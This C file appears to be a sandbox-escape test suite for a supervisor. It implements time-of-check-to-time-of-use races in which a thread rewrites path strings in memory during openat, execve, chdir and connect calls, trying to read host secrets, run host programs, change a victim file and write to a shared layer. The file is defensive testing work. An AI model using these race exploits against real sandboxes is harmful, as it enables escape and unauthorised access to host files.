// At tier bare the supervisor puts real paths into a process's memory, for the kernel to read: a
// thread looks for them below the stack of the one that calls, and puts the host's there instead.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include "escapes.h"

enum { kStackBytes = 64 << 10, kWindow = 6000, kStep = 16 };

static const char kNobodyWrites[] = "nobody puts paths into this process";

static char stack[kStackBytes] __attribute__((aligned(4096)));
static char* volatile top;  // of what is searched: below it nothing is in use
static const char* volatile lie;
static const char* volatile end;  // of a text that is replaced, alone; "": the whole of any
static atomic_int is_over, is_calling, is_searching;

static void replace(char* text) {
  const size_t length = strnlen(text, 4000), kept = *end != '\0' ? length - strlen(end) : 0;
  if (length < strlen(end) || strcmp(text + length - strlen(end), end) != 0) return;
  if (text + kept + strlen(lie) < top) strcpy(text + kept, lie);
}

static void* scribble(void* unused) {
  (void)unused;
  while (!is_over) {
    is_searching = 1;
    for (char* at = top - kWindow; is_calling && at < top; at += kStep) {
      if (at[0] == '/' && at[1] != '\0') replace(at);
      if (at[0] == AF_UNIX && at[1] == 0 && at[2] == '/') replace(at + 2);
    }
    is_searching = 0;
  }
  return NULL;
}

// Only meanwhile does the other thread search.
static void begin_call(char* frame) {
  top = frame - 64;
  is_calling = 1;
}
static void end_call(void) {
  is_calling = 0;
  while (is_searching) continue;
}
static long lied_to(long nr, long a, long b, long c) {
  begin_call(__builtin_frame_address(0));
  const long result = syscall(nr, a, b, c);
  const int error = errno;
  end_call();
  errno = error;
  return result;
}
static int open_by_lie(const char* path, int flags) {
  return (int)lied_to(SYS_openat, AT_FDCWD, (long)path, flags | O_CLOEXEC);
}

static int (*once)(void);

static void* call(void* escaped) {
  const double until = now() + (fact_number("race_ms") > 0 ? fact_number("race_ms") / 1e3 : 0.4);
  const int here = open(".", O_PATH | O_CLOEXEC);
  while (*(int*)escaped == 0 && now() < until) {
    *(int*)escaped = once();
    if (fchdir(here) != 0) break;
  }
  return NULL;
}

static const char* with_lie(const char* path, const char* only_end, int (*what)(void)) {
  pthread_t caller, scribbler;
  pthread_attr_t attributes;
  int escaped = 0;
  lie = path;
  end = only_end;
  once = what;
  top = stack + kStackBytes;
  work_in("text");
  put("mine", "ours\n", 0644);
  put("runs", "#!/bin/sh\nexit 7\n", 0755);
  mkfifo("fifo", 0666);
  pthread_create(&scribbler, NULL, scribble, NULL);
  pthread_attr_init(&attributes);
  pthread_attr_setstack(&attributes, stack, sizeof stack);
  pthread_create(&caller, &attributes, call, &escaped);
  pthread_join(caller, NULL);
  is_over = 1;
  pthread_join(scribbler, NULL);
  return verdict(escaped);
}

static int path_descriptor(void) {
  const int fd = open_by_lie("mine", O_PATH);
  char path[40];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  const int tells = file_tells(path);
  close(fd);
  return tells;
}
static const char* read_path_descriptor(void) {
  return with_lie(secret(), "", path_descriptor);
}

static int run_path_descriptor(void) {
  const int fd = open_by_lie("mine", O_PATH);
  char path[40];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  const int ran = runs_program_of_host(path);
  close(fd);
  return ran;
}
static const char* execute_path_descriptor(void) {
  return with_lie(in_host("program"), "", run_path_descriptor);
}

static int status_of_descriptor(void) {
  const int fd = open_by_lie("mine", O_PATH);
  struct stat status = {0};
  const int told = fstat(fd, &status) == 0 && (long)status.st_ino == fact_number("inode");
  close(fd);
  return told;
}
static const char* stat_path_descriptor(void) {
  return with_lie(secret(), "", status_of_descriptor);
}

static int change_descriptor(void) {
  const int fd = open_by_lie("mine", O_PATH);
  char path[40];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  struct stat status = {0};
  int changed = 0;
  if (fstat(fd, &status) == 0 && (long)status.st_ino == fact_number("inode_of_victim"))
    changed = chmod(path, 0640) == 0 || open(path, O_WRONLY | O_CLOEXEC) >= 0;
  close(fd);
  return changed;
}
static const char* change_path_descriptor(void) {
  return with_lie(in_host("victim"), "", change_descriptor);
}

static int folder_descriptor(void) {
  const int fd = open_by_lie(".", O_PATH | O_DIRECTORY);
  int tells = file_at_tells(fd, "secret");
  if (fchdir(fd) == 0) tells |= file_tells("secret");
  close(fd);
  return tells;
}
static const char* read_folder_descriptor(void) {
  return with_lie(host_directory(), "", folder_descriptor);
}

static int change_directory(void) {
  return lied_to(SYS_chdir, (long)"/work", 0, 0) == 0 && file_tells("secret");
}
static const char* enter_folder(void) {
  return with_lie(host_directory(), "", change_directory);
}

// The child shares our memory, and calls from a stack of its own.
static int execute(void* unused) {
  (void)unused;
  char* const argv[] = {"program", NULL};
  begin_call(__builtin_frame_address(0));
  syscall(SYS_execve, "runs", argv, NULL);
  _exit(127);
}
static int run_child(void) {
  static char child_stack[kStackBytes];
  const pid_t pid = clone(execute, child_stack + sizeof child_stack, CLONE_VM | SIGCHLD, NULL);
  int status = 0;
  waitpid(pid, &status, 0);
  end_call();
  return status == MARK_OF_HOST << 8;
}
static const char* run_program(void) {
  return with_lie(in_host("program"), "", run_child);
}

static int listener = -1;
static int connect_to_ours(void) {
  struct sockaddr_un address = {.sun_family = AF_UNIX, .sun_path = "ours"};
  if (listener < 0) {
    listener = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
    unlink("ours");
    bind(listener, (struct sockaddr*)&address, sizeof address);
    listen(listener, 10);
  }
  const int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  const int reached = lied_to(SYS_connect, fd, (long)&address, sizeof address) == 0;
  const int accepted = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
  if (accepted >= 0) close(accepted);
  close(fd);
  return reached && accepted < 0 && errno == EAGAIN;  // then somebody else was
}
static const char* connect_to_socket(void) {
  return with_lie(in_host("socket"), "ours", connect_to_ours);
}

// A file that is shared with a layer must not be opened for writing.
static int write_to_fifo(void) {
  struct stat layer, that = {0};
  if (stat("/layer", &layer) != 0) return 0;
  const int reader = open("fifo", O_RDWR | O_CLOEXEC);
  const int fd = open_by_lie("fifo", O_WRONLY);
  const int reached =
      fd >= 0 && fstat(fd, &that) == 0 && S_ISREG(that.st_mode) && that.st_ino == layer.st_ino;
  close(fd);
  close(reader);
  return reached;
}
static const char* write_to_layer(void) {
  return with_lie("/layer", "/work/text/fifo", write_to_fifo);
}

const struct Attempt text_attempts[] = {
    {"text_read_path_descriptor", read_path_descriptor, kNobodyWrites},
    {"text_run_path_descriptor", execute_path_descriptor, kNobodyWrites},
    {"text_stat_path_descriptor", stat_path_descriptor, kNobodyWrites},
    {"text_change_path_descriptor", change_path_descriptor, kNobodyWrites},
    {"text_read_folder_descriptor", read_folder_descriptor, kNobodyWrites},
    {"text_chdir", enter_folder, kNobodyWrites},
    {"text_exec", run_program, kNobodyWrites},
    {"text_connect", connect_to_socket, kNobodyWrites},
    {"text_write_layer", write_to_layer, kNobodyWrites},
    {0},
};
